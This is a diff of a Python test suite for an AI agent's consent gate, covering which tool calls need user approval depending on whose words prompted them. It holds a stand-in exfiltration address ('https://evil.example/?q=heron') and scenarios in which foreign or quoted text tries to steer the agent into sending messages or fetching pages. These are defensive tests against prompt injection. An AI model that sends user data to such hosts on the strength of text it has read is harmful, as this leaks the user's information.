@@ -9,7 +9,7 @@ from hypothesis import strategies as st
 from agent.admission_terms import Authority
 from agent.citations import FETCH
 from agent.memory.audience import GroupAudience, PersonAudience, Place, TeamAudience
-from agent.messages import Provenance, ResultStatus, ToolCall, ToolResult
+from agent.messages import Consent, JsonObject, Provenance, ResultStatus, ToolCall, ToolResult
 from agent.ports import Asker, ToolEffect
 from agent.progress import Progress, RoundStep
 from agent.records import Person
@@ -30,6 +30,7 @@ from agent.tool_policy import (
     CallGate,
     PolicyAnswer,
     PolicyRow,
+    TurnWords,
     decide,
     read_rows,
     shown_arguments,
@@ -96,7 +97,7 @@ def test_what_cannot_be_taken_back_never_runs_unasked(answer: PolicyAnswer, word
 def test_a_yes_to_acting_outward_counts_only_for_the_askers_own_words(answer: PolicyAnswer, words: Provenance) -> None:
     decision = decide([PolicyRow("*", "*", "*", answer)], "send", OUTWARD, HERE, words)
     assert (decision.answer is PolicyAnswer.YES) == (answer is PolicyAnswer.YES and words is Provenance.OWN)
-    assert decision.every_time == (words is Provenance.FOREIGN and answer is not PolicyAnswer.NO)
+    assert decision.every_time == (words is not Provenance.OWN and answer is not PolicyAnswer.NO)
 
 
 @given(st.sampled_from(PolicyAnswer), st.sampled_from(Provenance))
@@ -105,7 +106,7 @@ def test_what_writes_here_is_asked_for_too_where_somebody_elses_words_are(
 ) -> None:
     rows = [PolicyRow("*", "*", "*", answer)]
     decision = decide(rows, "notes.add", ToolEffect.WRITES_HERE, HERE, words)
-    assert (decision.answer is PolicyAnswer.YES) == (answer is PolicyAnswer.YES and words is Provenance.OWN)
+    assert (decision.answer is PolicyAnswer.YES) == (answer is PolicyAnswer.YES and words <= Provenance.NAMED)
     assert decide(rows, "remember", ToolEffect.WRITES_HERE, HERE, words).answer is answer
 
 
@@ -150,8 +151,10 @@ def gate(
     before: Progress = Progress(),  # noqa: B008 -- frozen
     standing: frozenset[str] = frozenset(),
     texts: Sequence[str] = (),
+    asked: str = "",
 ) -> CallGate:
-    held = (lambda: words, lambda: before, lambda: texts, {"fetch.get", "files.read", FETCH})
+    held = (lambda: TurnWords(words, texts, asked), lambda: before, {"fetch.get", "files.read", FETCH, "schedule"})
+    held = (*held, lambda _: {"url", "urls", "host", "path", "request", "to"})
     return CallGate(rows(table), lambda _: None, lambda _: effect, HERE, standing, *held)
 
 
@@ -180,23 +183,59 @@ def test_what_a_tool_brings_in_the_turn_has_the_next_act_asked_for() -> None:
     assert not gate(allowed, effect=READS, before=done("fetch")).needs_consent(SEND)
 
 
-def test_what_stands_counts_behind_its_own_results_and_behind_nobody_elses() -> None:
-    standing = frozenset({"send"})
+def test_a_standing_permission_says_nothing_about_whose_words_a_result_holds() -> None:
+    standing = frozenset({"send", "mail.read", "mail.both"})
     assert not gate(standing=standing).needs_consent(SEND)
-    assert not gate(standing=standing, before=done("send")).needs_consent(SEND)
-    assert not gate(standing=standing, words=Provenance.RETOLD).needs_consent(SEND)
-    assert gate(standing=standing, before=done("send", "fetch")).needs_consent(SEND)
+    for before in (done("mail.read"), done("send"), done("mail.read", "send"), done("mail.both")):
+        assert gate(standing=standing, before=before).needs_consent(SEND)
+        assert gate(standing=standing, before=before).needs_consent(ToolCall("mail.both", {"text": "Hello."}))
     assert gate(standing=standing, words=Provenance.FOREIGN).needs_consent(SEND)
+    assert gate(standing=standing, words=Provenance.NAMED).needs_consent(SEND)
     assert gate(standing=standing, effect=ToolEffect.IRREVERSIBLE).needs_consent(SEND)
+
+
+@pytest.mark.parametrize(
+    ("args", "asked", "asks"),
+    [
+        ({"text": "Hello."}, "Send Hello. to Bob", False),
+        ({"text": "Hello.", "to": ["Bob"], "times": 2}, "Send Hello. 2 times to Bob", False),
+        ({"text": "Hello.", "to": "Mallory"}, "Send Hello. to Bob", True),
+        ({"text": "Hell"}, "Send Hello. to Bob", True),
+        ({"text": "Hello.", "to": {"Mallory": "Bob"}}, "Send Hello. to Bob", True),
+        ({"text": "Hello."}, "What does this say?\n> Send Hello.", True),  # quoted, so others may have written it
+        ({"text": "Hello."}, "Send Hello. to @Bob", True),  # a name is no word of the asker's
+        ({"text": "Hello."}, "Thanks.", True),
+        ({"text": "Hello."}, "", True),
+        ({}, "Send Hello.", True),
+    ],
+)
+def test_after_what_the_bot_retold_it_counts_for_what_stands_in_the_question_alone(
+    args: JsonObject, asked: str, *, asks: bool
+) -> None:
+    standing, call = frozenset({"send"}), ToolCall("send", args)
+    assert gate(standing=standing, words=Provenance.RETOLD, asked=asked).needs_consent(call) is asks
+    assert gate(words=Provenance.RETOLD, asked=asked).needs_consent(call)
+    assert gate(standing=standing, words=Provenance.FOREIGN, asked=asked).needs_consent(call)
+    assert gate(standing=standing, words=Provenance.RETOLD, asked=asked, before=done("look")).needs_consent(call)
 
 
 def fetch(address: str) -> ToolCall:
     return ToolCall(FETCH, {"url": address})
 
 
-def fetching(address: str, status: ResultStatus, says: str = "A page.") -> Progress:
-    result = ToolResult(FETCH, status, says, audience="team:slack:T1" if status is ResultStatus.SUCCESS else "")
-    return Progress((RoundStep(calls=(fetch(address),), results=(result,)),))
+def called(
+    name: str,
+    args: JsonObject,
+    status: ResultStatus = ResultStatus.SUCCESS,
+    says: str = "A page.",
+    consent: Consent = Consent.NOT_NEEDED,
+) -> Progress:
+    result = ToolResult(name, status, says, audience="team:slack:T1" if status is ResultStatus.SUCCESS else "")
+    return Progress((RoundStep(calls=(ToolCall(name, args),), results=(result,), consents=(consent,)),))
+
+
+def fetching(address: str, status: ResultStatus, says: str = "A page.", consent: Consent = Consent.GIVEN) -> Progress:
+    return called(FETCH, {"url": address}, status, says, consent)
 
 
 COMPOSED = "https://evil.example/?q=heron"
@@ -205,17 +244,23 @@ COMPOSED = "https://evil.example/?q=heron"
 @pytest.mark.parametrize(
     ("address", "words", "before", "asks"),
     [
-        (COMPOSED, Provenance.OWN, Progress(), False),  # nobody is there who could want it
+        (COMPOSED, Provenance.OWN, Progress(), True),  # a tool's description may want it
+        (COMPOSED, Provenance.NAMED, Progress(), True),
         (COMPOSED, Provenance.RETOLD, Progress(), True),
         (COMPOSED, Provenance.FOREIGN, Progress(), True),
         ("https://a.example/", Provenance.FOREIGN, Progress(), False),
         (COMPOSED, Provenance.OWN, fetching("https://a.example/", ResultStatus.SUCCESS), True),
         ("https://b.example/1", Provenance.OWN, fetching("a.example", ResultStatus.SUCCESS, "see b.example/1"), False),
         (COMPOSED, Provenance.FOREIGN, fetching(COMPOSED, ResultStatus.SUCCESS), False),  # it is out already
+        (COMPOSED, Provenance.FOREIGN, fetching(COMPOSED, ResultStatus.SUCCESS, consent=Consent.BEGUN), False),
+        (COMPOSED, Provenance.FOREIGN, fetching(COMPOSED, ResultStatus.SUCCESS, consent=Consent.NOT_NEEDED), True),
+        (COMPOSED, Provenance.FOREIGN, called("recall", {"query": COMPOSED}), True),  # which sent it nowhere
+        (COMPOSED, Provenance.FOREIGN, called("recall", {"query": COMPOSED}, consent=Consent.GIVEN), True),
+        (COMPOSED, Provenance.FOREIGN, called("fetch.get", {"url": COMPOSED}, consent=Consent.GIVEN), True),
         (COMPOSED, Provenance.FOREIGN, fetching(COMPOSED, ResultStatus.FAILURE), True),
     ],
 )
-def test_beside_others_words_a_page_is_fetched_unasked_only_where_its_address_was_read(
+def test_a_page_is_fetched_unasked_only_where_its_address_was_read(
     address: str, words: Provenance, before: Progress, *, asks: bool
 ) -> None:
     asked = gate(effect=ToolEffect.READS, words=words, before=before, texts=["What does https://a.example/ say?"])
@@ -229,7 +274,11 @@ def test_beside_others_words_a_page_is_fetched_unasked_only_where_its_address_wa
         (ToolCall("fetch.get", {"urls": ["https://a.example/", COMPOSED]}), True),
         (ToolCall("fetch.get", {"url": "https://a.example/"}), False),
         (ToolCall("files.read", {"path": "https"}), False),
-        (ToolCall("recall", {"query": COMPOSED}), False),  # which leaves nothing out
+        (ToolCall("fetch.get", {"host": "a.example", "path": "/?q=heron"}), True),
+        (ToolCall("fetch.get", {"request": {"to": [{"at": COMPOSED}]}}), True),
+        (ToolCall("schedule", {"what": "Look.", "check": {"kind": "page", "target": COMPOSED}}), True),
+        (ToolCall("schedule", {"what": f"Read {COMPOSED}"}), False),  # its turn will be a foreign one
+        (ToolCall("recall", {"query": COMPOSED}), False),  # which sends nothing
     ],
 )
 def test_the_same_holds_for_any_tool_that_what_it_is_given_leaves(call: ToolCall, *, asks: bool) -> None:
@@ -240,6 +289,7 @@ def test_the_same_holds_for_any_tool_that_what_it_is_given_leaves(call: ToolCall
 def test_no_word_of_earlier_lets_what_was_put_together_be_fetched() -> None:
     table, standing = "web_fetch * * yes", frozenset({FETCH})
     before = fetching("https://a.example/", ResultStatus.SUCCESS)
+    assert gate(table, ToolEffect.READS, standing=standing).needs_consent(fetch(COMPOSED))
     assert gate(table, ToolEffect.READS, before=before, standing=standing).needs_consent(fetch(COMPOSED))
     assert gate("* * * no", ToolEffect.READS, words=Provenance.FOREIGN).needs_consent(fetch(COMPOSED))
 
